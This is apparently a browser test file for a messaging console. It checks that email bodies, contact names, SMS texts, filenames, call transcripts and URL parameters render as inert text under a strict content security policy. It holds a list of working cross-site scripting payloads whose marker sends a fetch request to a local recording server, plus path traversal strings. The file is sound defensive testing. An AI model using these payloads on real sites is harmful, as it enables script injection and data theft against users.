// Hostile text in every field that untrusted senders control: the console shows it and runs none of it.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { startTestApp } from '../../packages/server/testing/app.ts';
import { codedSpeech, ended, people, place } from '../../packages/server/testing/calls.ts';
import { openBrowser, withoutBrowser } from './chromium.ts';
import { type Visit, visitConsole } from './console-page.ts';

const skip = withoutBrowser;
// The overview looks up the DNS records of its domain; nothing listens on this port.
const app = await startTestApp({ PARLEY_DNS_SERVERS: '127.0.0.1:1' }, { speech: () => codedSpeech() });
const { client, url } = app;
let browser: Browser;
before(async () => {
  if (!skip) browser = await openBrowser();
});
after(() => browser?.close());

/** Another server, which records the requests it gets. */
const requests: string[] = [];
const other_server = createServer((request, response) => {
  requests.push(request.url!);
  response.end();
}).listen(0, '127.0.0.1');
await once(other_server, 'listening');
after(() => other_server.close());
const elsewhere = `http://127.0.0.1:${(other_server.address() as AddressInfo).port}`;

/**
 * Each attack tries to leave a trace: a mark on the page, a message to it, a navigation, or a request to another
 * server.
 */
const mark = `window.top.document.title='owned';parent.postMessage('owned','*');fetch('${elsewhere}/owned')`;
const attacks = [
  `<script>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `<svg onload="${mark}"></svg>`,
  `<svg><script>${mark}</script></svg>`,
  `<iframe srcdoc="<script>${mark.replaceAll("'", '&#39;')}</script>"></iframe>`,
  `<iframe src="javascript:${mark}"></iframe>`,
  `<a id=link href="javascript:${mark}">click me</a>`,
  `<form id=form action="${elsewhere}/owned"><input name=q value=secret><button id=send>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/owned">`,
  `<base href="${elsewhere}/"><img src="owned.png">`,
  `<link rel=stylesheet href="${elsewhere}/owned.css">`,
  `<style>@import url(${elsewhere}/owned); body{background:url(${elsewhere}/owned)}</style>`,
  `<object data="javascript:${mark}"></object><embed src="javascript:${mark}">`,
  `<video autoplay onloadstart="${mark}" src=x></video><details open ontoggle="${mark}">x</details>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${mark}">`,
  `"><img src=x onerror="${mark}">`,
  `{{constructor.constructor("${mark}")()}}\${${mark}}`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
];

/** A page without network restrictions, and the traces that a successful attack leaves. */
async function watched(key?: string): Promise<{ visit: Visit; noticed(): Promise<string[]> }> {
  const visit = await visitConsole(browser, { url, ...(key ? { key } : {}), unguarded: true });
  const { page } = visit;
  const dialogs: string[] = [];
  requests.length = 0;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    window.addEventListener('message', (event) => {
      if (event.data === 'owned') document.title = 'owned';
    });
  });
  return {
    visit,
    async noticed() {
      const is_elsewhere = !page.url().startsWith(`${url}/`);
      const title = await page.title();
      return [...requests, ...dialogs, ...(title === 'owned' || is_elsewhere ? [title, page.url()] : [])];
    },
  };
}

test('an HTML body can run no script, send no request and not leave its frame', { skip }, async () => {
  const { visit, noticed } = await watched(client.key);
  await visit.open('/emails', 'Emails');
  for (const [index, attack] of attacks.entries()) {
    const subject = `Attack ${index}`;
    const sent = await client.request<{ id: string }>('POST', '/v1/emails', {
      to: ['delivered@sandbox.test'],
      subject,
      body_html: `<p id=probe>shown</p>${attack}`,
      recipient_consent: true,
      track_opens: false,
      track_clicks: false,
    });
    assert.equal(sent.status, 201);
    await visit.go(`/emails/${sent.body.id}`);
    await visit.page.getByRole('heading', { level: 1, name: subject, exact: true }).waitFor();
    const frame = visit.page.frameLocator('iframe.mail-frame');
    await frame.locator('#probe').waitFor();
    for (const id of ['#link', '#send']) {
      const target = frame.locator(id);
      // A click on a javascript: link opens at most an empty page.
      if ((await target.count()) > 0) await target.click({ timeout: 2000 }).catch(() => {});
    }
    assert.deepEqual(await noticed(), [], attack);
  }
  await visit.close();
});

test('even opened on its own, a preview has no origin and no script, and cannot navigate', {
  skip,
}, async () => {
  const sent = await client.request<{ id: string }>('POST', '/v1/emails', {
    to: ['delivered@sandbox.test'],
    subject: 'alone',
    body_html: `<p id=probe>shown</p>${attacks.slice(0, 5).join('')}`,
    recipient_consent: true,
  });
  const preview = await client.request<{ url: string }>('GET', `/v1/emails/${sent.body.id}/preview`);
  const { visit, noticed } = await watched();
  await visit.page.goto(preview.body.url);
  await visit.page.locator('#probe').waitFor();
  assert.deepEqual(await noticed(), []);
  const response = await fetch(preview.body.url);
  const policy = response.headers.get('content-security-policy')!;
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /sandbox allow-popups allow-popups-to-escape-sandbox$/);
  assert.doesNotMatch(policy, /allow-same-origin|allow-scripts/);
  assert.equal(response.headers.get('referrer-policy'), 'no-referrer');
  await visit.close();

  const with_images = await client.request<{ url: string }>(
    'GET',
    `/v1/emails/${sent.body.id}/preview?remote_images=true`,
  );
  const changed = preview.body.url.replace('images=off', 'images=on');
  assert.equal((await fetch(changed)).status, 403, 'a changed link is rejected');
  assert.match(
    (await fetch(with_images.body.url)).headers.get('content-security-policy')!,
    /img-src data: https: http:/,
  );
  await app.later(601);
  assert.equal((await fetch(preview.body.url)).status, 403, 'a link expires soon');
  const other = app.organization();
  assert.equal((await other.request('GET', `/v1/emails/${sent.body.id}/preview`)).status, 404);
});

test('images of other servers are loaded only on request', { skip }, async () => {
  const sent = await client.request<{ id: string }>('POST', '/v1/emails', {
    to: ['delivered@sandbox.test'],
    subject: 'pictures',
    body_html: `<p id=probe>shown</p><img src="${elsewhere}/tracking.png">`,
    recipient_consent: true,
    track_opens: false,
  });
  const { visit, noticed } = await watched(client.key);
  await visit.open(`/emails/${sent.body.id}`, 'pictures');
  await visit.page.frameLocator('iframe.mail-frame').locator('#probe').waitFor();
  assert.deepEqual(await noticed(), []);
  const loaded = once(other_server, 'request');
  await visit.page.getByRole('button', { name: 'Load images' }).click();
  await loaded;
  assert.deepEqual(await noticed(), ['/tracking.png']);
  await visit.close();
});

test('hostile subjects, names, file names, texts and addresses are shown as plain text', {
  skip,
}, async () => {
  const { visit, noticed } = await watched(client.key);
  const oneLine = (length: number) =>
    attacks.map((attack) => attack.replaceAll(/[\r\n]/g, ' ').slice(0, length));
  for (const attack of oneLine(190)) {
    await client.request('POST', '/v1/contacts', {
      name: attack,
      phone_e164: `+1415555${String(1000 + Math.floor(Math.random() * 8999))}`,
    });
    await client.request('POST', '/v1/agents', {
      name: attack.slice(0, 90),
      system_prompt: attack,
      first_message: attack,
    });
    await client.request('POST', '/v1/sandbox/inbound-sms', {
      from: '+14155550123',
      to: '+15005550110',
      body: attack,
    });
  }
  const files = attacks.slice(0, 4).map((attack) => ({
    filename: `${attack.replaceAll('/', '_').slice(0, 100)}.html`,
    content_type: 'text/html',
    content_base64: Buffer.from(attacks[0]!).toString('base64'),
  }));
  const mail = await client.request<{ id: string }>('POST', '/v1/sandbox/inbound-emails', {
    from: 'Eve <eve@example.org>',
    subject: attacks[1],
    body_text: attacks.join('\n'),
    headers: { 'X-Attack': attacks[0] },
    attachments: files,
  });
  assert.equal(mail.status, 201, mail.text);
  const domain = await client.request<{ id: string }>('POST', '/v1/email-domains', {
    kind: 'custom',
    domain: 'evil.example.com',
  });
  await client.request('POST', '/v1/sandbox/events', {
    type: 'email.bounced',
    data: { subject: attacks[1] },
  });

  const { page } = visit;
  await visit.open('/calls', 'Calls');
  for (const [path, shown] of [
    ['/contacts', '<script>'],
    ['/agents', '<script>'],
    ['/sms', '<script>'],
    ['/emails', '<img src=x'],
    ['/', 'email.bounced'],
    [`/emails/${mail.body.id}`, '<script>'],
    [`/domains/${domain.body.id}`, 'evil.example.com'],
    ['/numbers', 'Numbers'],
    ['/sandbox', 'Sandbox'],
  ] as const) {
    await visit.go(path);
    await page.getByText(shown).first().waitFor();
    assert.deepEqual(await noticed(), [], path);
  }
  await visit.open(`/emails/${mail.body.id}`);
  for (const tab of ['Headers', 'Raw', /^Attachments/]) {
    await page.getByRole('tab', { name: tab }).click();
    await page
      .getByRole('tabpanel')
      .getByText(/script|img/)
      .first()
      .waitFor();
  }
  // A file is only saved as bytes, whatever type it claims to be.
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: /^Save/ }).first().click();
  await (await download).cancel();
  assert.deepEqual(await noticed(), []);

  // Text in the URL is shown as plain text too.
  await visit.open(`/contacts?q=${encodeURIComponent(attacks[1]!)}`);
  await visit.open(`/calls?to=${encodeURIComponent(attacks[0]!)}&status=${encodeURIComponent('"><script>')}`);
  await visit.open(`/calls/${encodeURIComponent(attacks[1]!.replaceAll('/', ' '))}`);
  assert.deepEqual(await noticed(), []);
  visit.assertClean();
  await visit.close();
});

test('everything said on a call is plain text in the transcript', { skip }, async () => {
  const { visit, noticed } = await watched(client.key);
  const { id } = await ended(client, (await place(client, people.busy)).id);
  for (const [index, attack] of attacks.entries())
    await app.db.pool.query(
      `insert into call_turns (id, organization_id, call_id, speaker, text, started_ms, ended_ms, is_interrupted)
       values (gen_random_uuid(), $1, $2, $3, $4, $5, $5, false)`,
      [client.organization_id, id, index % 2 ? 'agent' : 'person', attack, index * 1000],
    );
  await visit.open(`/calls/${id}`, `Call to ${people.busy}`);
  const turns = visit.page.getByRole('log', { name: 'Transcript' }).locator('.bubble');
  await turns.last().waitFor();
  assert.equal(await turns.count(), attacks.length);
  assert.ok((await turns.first().textContent())!.startsWith(attacks[0]!));
  assert.deepEqual(await noticed(), []);
  await visit.close();
});

test('the page allows only its own scripts, no frame around it and no other server', {
  skip,
}, async () => {
  const response = await fetch(`${url}/calls`);
  const policy = response.headers.get('content-security-policy')!;
  for (const part of [
    "default-src 'none'",
    "script-src 'self';",
    "connect-src 'self'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
  ])
    assert.ok(policy.includes(part), part);
  assert.doesNotMatch(policy, /unsafe/);
  const html = await response.text();
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|<style|\son\w+=|\sstyle=/);
  const other = await (await fetch(`${url}/`)).text();
  assert.notEqual(
    /csp-nonce" content="([^"]+)/.exec(html)![1],
    /csp-nonce" content="([^"]+)/.exec(other)![1],
  );

  const visit = await visitConsole(browser, { url, key: client.key });
  await visit.open('/', 'Overview');
  const blocked = await visit.page.evaluate(async (elsewhere) => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refused.push(effectiveDirective),
    );
    const script = document.createElement('script');
    script.textContent = "document.title='owned'";
    document.body.append(script);
    const image = document.createElement('div');
    image.innerHTML = '<img src=x onerror="document.title=\'owned\'">';
    document.body.append(image);
    await fetch(elsewhere).catch(() => {});
    while (new Set(refused).size < 3) await new Promise((resolve) => requestAnimationFrame(resolve));
    return { refused, title: document.title };
  }, elsewhere);
  assert.deepEqual([...new Set(blocked.refused)].sort(), [
    'connect-src',
    'script-src-attr',
    'script-src-elem',
  ]);
  assert.doesNotMatch(blocked.title, /owned/);
  await visit.close();
});

test('no path leads to a file outside of the build', async () => {
  for (const path of [
    '/assets/../index.html',
    '/assets/..%2findex.html',
    '/assets/%2e%2e%2fpackage.json',
    '/assets/stamp',
    '/assets/constructor',
  ])
    assert.equal((await fetch(url + path)).status, 404, path);
  assert.equal((await fetch(`${url}/nowhere`)).status, 404);
});
